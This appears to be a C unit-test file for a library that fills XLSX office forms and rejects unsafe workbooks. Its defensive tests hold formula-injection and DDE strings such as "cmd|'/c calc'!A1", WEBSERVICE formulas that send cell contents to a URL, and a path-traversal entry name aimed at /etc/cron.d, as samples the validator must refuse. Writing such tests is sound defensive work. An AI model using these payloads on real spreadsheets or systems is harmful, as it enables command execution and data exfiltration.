/* Filling an office's form: the cells that are named change, and nothing else does, part by part and byte by byte. */
#include "paper/xlsx_fixture.h"

#include "paper/xlsx_fill.h"
#include "paper/xlsx_form.h"
#include "paper/xlsx_formula.h"
#include "sys/sys.h"

struct bench {
	struct cx cx;
	struct arena arena;
};

static int begin(void **state)
{
	struct bench *b = calloc(1, sizeof(*b));

	arena_init(&b->arena, &sys_heap, 0);
	b->cx.arena = &b->arena;
	*state = b;
	return 0;
}

static int end(void **state)
{
	struct bench *b = *state;

	arena_done(&b->arena);
	free(b);
	return 0;
}

/* A part of a workbook, unpacked; STR_NONE: there is none. */
static struct str part_of(struct bench *b, struct str book, const char *name)
{
	zip_source_t *s = zip_source_buffer_create(book.p, book.n, 0, NULL);
	zip_t *zip = zip_open_from_source(s, ZIP_RDONLY, NULL);
	struct str ret = STR_NONE;
	zip_stat_t stat;
	zip_file_t *file;

	assert_non_null(zip);
	if (zip_stat(zip, name, 0, &stat) == 0) {
		char *p = cx_alloc(&b->cx, stat.size + 1);

		file = zip_fopen(zip, name, 0);
		assert_int_equal(zip_fread(file, p, stat.size), stat.size);
		p[stat.size] = '\0';
		zip_fclose(file);
		ret = (struct str){ p, stat.size };
	}
	zip_discard(zip);
	return ret;
}

#define PARTS \
	"_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml", \
		"xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"

/* All parts but those that are named (up to NULL) are the same. */
static void same_but(struct bench *b, struct str one, struct str other, const char *const *but)
{
	static const char *const parts[] = { PARTS };

	for (size_t i = 0; i < sizeof(parts) / sizeof(*parts); i++) {
		struct str x = part_of(b, one, parts[i]), y = part_of(b, other, parts[i]);
		bool named = false;

		for (size_t k = 0; but[k]; k++)
			named = named || strcmp(but[k], parts[i]) == 0;
		if (str_eq(x, y) == named)
			fail_msg("%s: %.*s", parts[i], STR_ARG(y));
	}
}

static struct str filled(struct bench *b, struct str book, const struct xlsx_put *puts, size_t n)
{
	struct str ret;

	if (xlsx_fill(&b->cx, book, puts, n, &ret))
		fail_msg("%.*s", STR_ARG(b->cx.e.en));
	return ret;
}

#define FILLED(b, book, ...) \
	filled((b), (book), (struct xlsx_put[]){ __VA_ARGS__ }, \
		sizeof((struct xlsx_put[]){ __VA_ARGS__ }) / sizeof(struct xlsx_put))

static void refused(struct bench *b, struct str book, struct xlsx_put put, const char *en)
{
	struct str ret;

	err_clear(&b->cx);
	assert_int_equal(xlsx_fill(&b->cx, book, &put, 1, &ret), -E_XLSX);
	if (!strstr(b->cx.e.en.p, en))
		fail_msg("'%s' lacks '%s'", b->cx.e.en.p, en);
}

#define NUMBER(c, r, t) \
	{ \
		.column = (c), .row = (r), .form = XLSX_PUT_NUMBER, .text = STR(t) \
	}
#define TEXT(c, r, t) \
	{ \
		.column = (c), .row = (r), .form = XLSX_PUT_TEXT, .text = STR(t) \
	}

#define TWO_SHEETS \
	"<workbook xmlns=\"" BOOK_MAIN "\" xmlns:r=\"" BOOK_RELATIONS "\"><sheets>" \
	"<sheet name=\"日报\" sheetId=\"1\" r:id=\"rId1\"/>" \
	"<sheet name=\"说明\" sheetId=\"2\" r:id=\"rId2\"/></sheets>%s</workbook>"
#define STYLES \
	"<styleSheet><numFmts><numFmt numFmtId=\"170\" formatCode=\"yyyy&quot;年&quot;m&quot;月&quot;d&quot;日&quot;\"/>" \
	"</numFmts><cellXfs><xf numFmtId=\"0\"/><xf numFmtId=\"3\"/><xf numFmtId=\"170\"/></cellXfs></styleSheet>"
#define ROWS \
	"<row r=\"1\"><c r=\"A1\" t=\"s\" s=\"1\"><v>0</v></c></row>" \
	"<row r=\"3\" ht=\"20\"><c r=\"A3\" t=\"inlineStr\"><is><t>岳阳镇</t></is></c><c r=\"B3\" s=\"1\"/>" \
	"<c r=\"D3\"><f>B3*2</f><v>8</v></c></row><row r=\"4\" s=\"1\" customFormat=\"1\"/>"
#define AFTER \
	"<mergeCells count=\"1\"><mergeCell ref=\"A1:D1\"/></mergeCells><pageMargins left=\"0.7\"/>"

static struct str form(struct bench *b)
{
	static char workbook[1000];

	snprintf(workbook, sizeof(workbook), TWO_SHEETS, "<definedNames/>");
	return book_make(&b->cx,
		&(struct book_parts){ .workbook = workbook,
			.styles = STYLES,
			.strings = "<sst><si><t>某办日报（示例）</t></si></sst>",
			.rows = ROWS,
			.after = AFTER,
			.sheet2 =
				"<worksheet><sheetData><row><c><f>日报!B3</f><v>4</v></c></row></sheetData></worksheet>" });
}

static void holds(struct str part, const char *text)
{
	if (!part.p || !memmem(part.p, part.n, text, strlen(text)))
		fail_msg("'%.*s' lacks '%s'", STR_ARG(part), text);
}

/* A cell that is there keeps its style; what formulas came to is cut on every sheet; the rest stays byte by byte. */
static void only_what_is_named_changes(void **state)
{
	struct bench *b = *state;
	struct str book = form(b), out = FILLED(b, book, NUMBER(2, 3, "12"));
	struct buf sheet;

	same_but(b, book, out,
		(const char *const[]){ "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml",
			"xl/workbook.xml", NULL });
	buf_init(&sheet, b->cx.arena);
	buf_z(&sheet,
		"<worksheet xmlns=\"" BOOK_MAIN "\"><sheetData>"
		"<row r=\"1\"><c r=\"A1\" t=\"s\" s=\"1\"><v>0</v></c></row>"
		"<row r=\"3\" ht=\"20\"><c r=\"A3\" t=\"inlineStr\"><is><t>岳阳镇</t></is></c>"
		"<c r=\"B3\" s=\"1\"><v>12</v></c><c r=\"D3\"><f>B3*2</f></c></row>"
		"<row r=\"4\" s=\"1\" customFormat=\"1\"/></sheetData>" AFTER "</worksheet>");
	assert_string_equal(part_of(b, out, "xl/worksheets/sheet1.xml").p, buf_get(&sheet).p);
	holds(part_of(b, out, "xl/worksheets/sheet2.xml"), "<c><f>日报!B3</f></c>");
	holds(part_of(b, out, "xl/workbook.xml"), "<definedNames/><calcPr fullCalcOnLoad=\"1\"/>");
}

/* What stands nowhere yet is put where it belongs: between cells, into a row of one tag, between and behind rows. */
static void cells_and_rows_that_are_not_there(void **state)
{
	struct bench *b = *state;
	struct str out = FILLED(b, form(b), NUMBER(3, 3, "7"), TEXT(2, 2, "甲<乙>"),
		NUMBER(5, 3, "9"), NUMBER(1, 4, "1"), NUMBER(2, 4, "2"), NUMBER(1, 9, "5"),
		TEXT(2, 9, ""));

	holds(part_of(b, out, "xl/worksheets/sheet1.xml"),
		"</row><row r=\"2\"><c r=\"B2\" t=\"inlineStr\"><is><t xml:space=\"preserve\">&#30002;&#60;&#20057;&#62;</t></is></c></row><row r=\"3\" ht=\"20\">");
	holds(part_of(b, out, "xl/worksheets/sheet1.xml"),
		"<c r=\"B3\" s=\"1\"/><c r=\"C3\"><v>7</v></c><c r=\"D3\"><f>B3*2</f></c><c r=\"E3\"><v>9</v></c></row>");
	holds(part_of(b, out, "xl/worksheets/sheet1.xml"),
		"<row r=\"4\" s=\"1\" customFormat=\"1\"><c r=\"A4\" s=\"1\"><v>1</v></c><c r=\"B4\" s=\"1\"><v>2</v></c></row>");
	holds(part_of(b, out, "xl/worksheets/sheet1.xml"), "<row r=\"9\"><c r=\"A9\"><v>5</v></c>");
	out = FILLED(b,
		book_make(&b->cx,
			&(struct book_parts){
				.sheet = "<x:worksheet><x:sheetData/></x:worksheet>" }),
		NUMBER(2, 2, "3"));
	assert_string_equal(part_of(b, out, "xl/worksheets/sheet1.xml").p,
		"<x:worksheet><x:sheetData><x:row r=\"2\"><x:c r=\"B2\"><x:v>3</x:v></x:c></x:row></x:sheetData></x:worksheet>");
}

/* What is nested as no spreadsheet nests it is cut once, and ends no program. */
static void values_within_values(void **state)
{
	struct bench *b = *state;
	struct str out = FILLED(b,
		book_make(&b->cx,
			&(struct book_parts){
				.rows = "<row r=\"1\"><c r=\"A1\"><f>1+1</f><v>2<v>3</v>4</v></c><c r=\"B1\"/></row>" }),
		NUMBER(2, 1, "7"));

	holds(part_of(b, out, "xl/worksheets/sheet1.xml"),
		"<row r=\"1\"><c r=\"A1\"><f>1+1</f></c><c r=\"B1\"><v>7</v></c></row>");
}

/* A date is a number where the cell shows numbers as dates, and words elsewhere. */
static void a_date_is_written_as_the_cell_shows_dates(void **state)
{
	struct bench *b = *state;
	struct str book = book_make(&b->cx,
		&(struct book_parts){ .styles = STYLES,
			.rows = "<row r=\"1\"><c r=\"A1\" s=\"2\"/><c r=\"B1\"/></row>" });
	struct xlsx_put puts[2] = {
		{ .column = 1,
			.row = 1,
			.form = XLSX_PUT_DAY,
			.text = STR("2022年8月30日"),
			.day = 19234 },
		{ .column = 2, .row = 1, .form = XLSX_PUT_DAY, .text = STR("2022"), .day = 19234 }
	};
	struct str out = filled(b, book, puts, 2);

	holds(part_of(b, out, "xl/worksheets/sheet1.xml"), "<c r=\"A1\" s=\"2\"><v>44803</v></c>");
	holds(part_of(b, out, "xl/worksheets/sheet1.xml"), "<t xml:space=\"preserve\">2022</t>");
}

static void what_cannot_be_filled_is_refused(void **state)
{
	struct bench *b = *state;

	refused(b, form(b), (struct xlsx_put)NUMBER(4, 3, "1"), "D3 holds a formula");
	refused(b, form(b), (struct xlsx_put)NUMBER(2, 1, "1"), "B1 is part of A1");
	refused(b, form(b), (struct xlsx_put){ .sheet = 2, .column = 1, .row = 1 }, "no sheet 3");
	refused(b, STR("PK\x03\x04 and no more"), (struct xlsx_put)NUMBER(1, 1, "1"),
		"no whole ZIP");
}

/* The words that are there about computing stay. */
static void what_is_said_of_computing_is_kept(void **state)
{
	static const char *const said[][2] = {
		{ "<calcPr calcMode=\"manual\"/>",
			"<calcPr calcMode=\"manual\" fullCalcOnLoad=\"1\"/>" },
		{ "<calcPr fullCalcOnLoad=\"0\" iterate=\"1\"/>",
			"<calcPr fullCalcOnLoad=\"1\" iterate=\"1\"/>" },
		{ "<calcPr></calcPr>", "<calcPr fullCalcOnLoad=\"1\"></calcPr>" },
	};
	struct bench *b = *state;
	char workbook[1000];

	for (size_t i = 0; i < sizeof(said) / sizeof(*said); i++) {
		snprintf(workbook, sizeof(workbook), TWO_SHEETS, said[i][0]);
		holds(part_of(b,
			      FILLED(b,
				      book_make(&b->cx,
					      &(struct book_parts){ .workbook = workbook,
						      .rows = ROWS,
						      .sheet2 = "<worksheet/>" }),
				      NUMBER(2, 3, "1")),
			      "xl/workbook.xml"),
			said[i][1]);
	}
}

/* ---- what is taken as a form ---- */

static int form_read(struct bench *b, struct str book, struct xlsx_form_sheet **ret, size_t *ret_n)
{
	err_clear(&b->cx);
	return xlsx_form_read(&b->cx, book, ret, ret_n);
}

static void a_form_is_drawn(void **state)
{
	struct bench *b = *state;
	struct xlsx_form_sheet *all;
	size_t n;

	assert_int_equal(form_read(b, form(b), &all, &n), 0);
	assert_int_equal(n, 2);
	assert_true(str_is(all[0].name, "日报") && all[0].cells_n == 3 && all[0].merges_n == 1);
	assert_true(str_is(all[0].cells[0].text, "某办日报（示例）"));
	assert_true(
		all[0].cells[2].formula && all[0].cells[2].column == 4 && all[0].cells[2].row == 3);
	assert_int_equal(all[0].merges[0].right, 4);
}

/* Each part of the form; their bytes. */
static size_t form_add(struct bench *b, zip_t *zip)
{
	static const char *const parts[] = { PARTS };
	struct str plain = form(b);
	size_t bytes = 0;

	for (size_t i = 0; i < sizeof(parts) / sizeof(*parts); i++) {
		struct str part = part_of(b, plain, parts[i]);

		book_add(zip, parts[i], part.p);
		bytes += part.n;
	}
	return bytes;
}

static struct str with_part(struct bench *b, const char *name)
{
	zip_source_t *source;
	zip_t *zip = book_begin(&source);

	form_add(b, zip);
	book_add(zip, name, "x");
	return book_packed(&b->cx, zip, source);
}

static void what_is_no_form_is_refused(void **state)
{
	static const char *const parts[][2] = { { "xl/vbaProject.bin", "macros" },
		{ "xl/externalLinks/externalLink1.xml", "links to other files" },
		{ "xl/connections.xml", "other systems" },
		{ "_xmlsignatures/sig1.xml", "signed" } };
	struct bench *b = *state;
	struct xlsx_form_sheet *all;
	size_t n;

	for (size_t i = 0; i < sizeof(parts) / sizeof(*parts); i++) {
		assert_int_equal(form_read(b, with_part(b, parts[i][0]), &all, &n), -E_XLSX);
		holds(b->cx.e.en, parts[i][1]);
	}
	assert_int_equal(form_read(b, with_part(b, "xl/media/image1.png"), &all, &n), 0);
	assert_int_equal(
		form_read(b,
			book_make(&b->cx,
				&(struct book_parts){
					.rows = "<row r=\"2\"><c r=\"B2\" t=\"str\"><v>11010519491231002X</v></c></row>" }),
			&all, &n),
		-E_XLSX);
	holds(b->cx.e.en, "One!B2");
}

#define RELATION(type, more) \
	"<Relationships><Relationship Id=\"rId9\" Type=\"http://x" type "\" Target=\"y\"" more \
	"/></Relationships>"

static void form_is(struct bench *b, struct str book, const char *refusal)
{
	struct xlsx_form_sheet *all;
	size_t n;
	int e = form_read(b, book, &all, &n);

	if (!refusal && e)
		fail_msg("%.*s", STR_ARG(b->cx.e.en));
	if (refusal && !e)
		fail_msg("taken: %s", refusal);
	if (refusal)
		holds(b->cx.e.en, refusal);
}

static struct str with_relations(struct bench *b, const char *content)
{
	zip_source_t *source;
	zip_t *zip = book_begin(&source);

	form_add(b, zip);
	book_add(zip, "xl/worksheets/_rels/sheet1.xml.rels", content);
	return book_packed(&b->cx, zip, source);
}

/* A part is what its relation says, whatever it is called. */
static void what_a_part_is_called_hides_nothing(void **state)
{
	struct bench *b = *state;

	form_is(b, with_relations(b, RELATION("/hyperlink", " TargetMode=\"External\"")), NULL);
	form_is(b, with_relations(b, RELATION("/printerSettings", "")), NULL);
	form_is(b, with_relations(b, RELATION("/vbaProject", "")), "macros");
	form_is(b, with_relations(b, RELATION("/xlMacrosheet", "")), "macros");
	form_is(b, with_relations(b, RELATION("/externalLink", "")), "links to other files");
	form_is(b, with_relations(b, RELATION("/connections", "")), "other systems");
	form_is(b, with_relations(b, RELATION("/oleObject", "")), "other files in it");
	form_is(b, with_relations(b, RELATION("/image", " TargetMode=\"External\"")), "fetches");
	form_is(b, with_relations(b, "<Relationships><Relationship"), "no well-formed XML");
	form_is(b, with_part(b, "../../etc/cron.d/x"), "a name that none has");
	form_is(b, with_part(b, "xl\\\\x.xml"), "a name that none has");
	form_is(b,
		book_make(&b->cx,
			&(struct book_parts){
				.workbook =
					"<workbook xmlns:r=\"" BOOK_RELATIONS
					"\"><sheets><sheet name=\"1\" r:id=\"rId1\"/><sheet name=\"2\" r:id=\"rId1\"/></sheets></workbook>" }),
		"two sheets are one part");
}

static void formulas_stay_in_the_workbook(void **state)
{
	static const char *const taken[] = { "SUM(B2:B9)", "IF(A1=\"WEBSERVICE(1)\",1,2)",
		"'a|b'!A1", "HYPERLINK( \"#说明!A1\",\"说明\")", "MYCALL(1)",
		"ROUND(REGISTERED,1)" };
	static const char *const wrong[] = { "WEBSERVICE(\"http://x/?\"&B2)",
		"_xlfn.webservice (A1)", "1+HYPERLINK(\"http://x/\"&B2,\"说明\")",
		"DDE(\"soffice\",\"x\",\"y\")", "cmd|'/c calc'!A1", "'cmd'|'/c calc'!A1",
		"RTD(\"a\",,\"b\")", "SUM(1,CUBEVALUE(\"x\"))", "_xlfn.IMAGE(A1)" };
	struct bench *b = *state;

	for (size_t i = 0; i < sizeof(taken) / sizeof(*taken); i++)
		if (xlsx_formula_reaches(str_of(taken[i])))
			fail_msg("%s", taken[i]);
	for (size_t i = 0; i < sizeof(wrong) / sizeof(*wrong); i++)
		if (!xlsx_formula_reaches(str_of(wrong[i])))
			fail_msg("%s", wrong[i]);
	form_is(b,
		book_make(&b->cx,
			&(struct book_parts){
				.rows = "<row r=\"2\"><c r=\"B2\"><f>_xlfn.WEBSERVICE(A1)</f></c></row>" }),
		"One!B2 reaches out");
}

/* A text that cells share counts as often as they do. */
static void texts_that_are_shared_have_their_limit(void **state)
{
	struct bench *b = *state;
	struct buf strings, rows;

	for (int more = 0; more < 2; more++) {
		buf_init(&strings, b->cx.arena);
		buf_z(&strings, "<sst><si><t>");
		for (size_t i = 0; i < XLSX_FORM_TEXT_MAX / 64; i++)
			buf_c(&strings, 'x');
		buf_z(&strings, "</t></si></sst>");
		buf_init(&rows, b->cx.arena);
		for (int r = 1; r <= 64 + more; r++)
			buf_fmt(&rows, "<row r=\"%d\"><c t=\"s\"><v>0</v></c></row>", r);
		form_is(b,
			book_make(&b->cx,
				&(struct book_parts){
					.rows = buf_get(&rows).p, .strings = buf_get(&strings).p }),
			more ? "MiB of text" : NULL);
	}
}

/* The parts of the usual form and one more, that is as long as all of them together are to be. */
static struct str padded(struct bench *b, size_t bytes)
{
	zip_source_t *source;
	zip_t *zip = book_begin(&source);
	struct buf rest;

	bytes -= form_add(b, zip);
	buf_init(&rest, b->cx.arena);
	while (bytes--)
		buf_c(&rest, 'x');
	book_add(zip, "xl/media/i.png", buf_get(&rest).p);
	return book_packed(&b->cx, zip, source);
}

static void what_it_unpacks_to_has_its_limit(void **state)
{
	struct bench *b = *state;

	form_is(b, padded(b, XLSX_FORM_UNPACKED_MAX), NULL);
	form_is(b, padded(b, XLSX_FORM_UNPACKED_MAX + 1), "unpacks to more than 8 MiB");
}

/* Just so many cells, and one more; a part that unpacks to more than any form has. */
static void a_form_has_its_limits(void **state)
{
	struct bench *b = *state;
	struct xlsx_form_sheet *all;
	struct buf rows;
	size_t n;

	buf_init(&rows, b->cx.arena);
	for (int r = 1; r <= XLSX_FORM_CELLS_MAX / 100; r++) {
		buf_fmt(&rows, "<row r=\"%d\">", r);
		for (int i = 0; i < 100; i++)
			buf_z(&rows, "<c><v>1</v></c>");
		buf_z(&rows, "</row>");
	}
	assert_int_equal(
		form_read(b, book_make(&b->cx, &(struct book_parts){ .rows = buf_get(&rows).p }),
			&all, &n),
		0);
	assert_int_equal(all[0].cells_n, XLSX_FORM_CELLS_MAX);
	buf_z(&rows, "<row><c><v>1</v></c></row>");
	assert_int_equal(
		form_read(b, book_make(&b->cx, &(struct book_parts){ .rows = buf_get(&rows).p }),
			&all, &n),
		-E_XLSX_LARGE);
	buf_init(&rows, b->cx.arena);
	buf_z(&rows, "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>");
	while (rows.n < 17 << 20)
		buf_z(&rows,
			"<row></row>                                                            ");
	assert_int_equal(
		form_read(b, book_make(&b->cx, &(struct book_parts){ .rows = buf_get(&rows).p }),
			&all, &n),
		-E_XLSX_LARGE);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(only_what_is_named_changes, begin, end),
		cmocka_unit_test_setup_teardown(cells_and_rows_that_are_not_there, begin, end),
		cmocka_unit_test_setup_teardown(values_within_values, begin, end),
		cmocka_unit_test_setup_teardown(
			a_date_is_written_as_the_cell_shows_dates, begin, end),
		cmocka_unit_test_setup_teardown(what_cannot_be_filled_is_refused, begin, end),
		cmocka_unit_test_setup_teardown(what_is_said_of_computing_is_kept, begin, end),
		cmocka_unit_test_setup_teardown(a_form_is_drawn, begin, end),
		cmocka_unit_test_setup_teardown(what_is_no_form_is_refused, begin, end),
		cmocka_unit_test_setup_teardown(what_a_part_is_called_hides_nothing, begin, end),
		cmocka_unit_test_setup_teardown(formulas_stay_in_the_workbook, begin, end),
		cmocka_unit_test_setup_teardown(texts_that_are_shared_have_their_limit, begin, end),
		cmocka_unit_test_setup_teardown(what_it_unpacks_to_has_its_limit, begin, end),
		cmocka_unit_test_setup_teardown(a_form_has_its_limits, begin, end),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
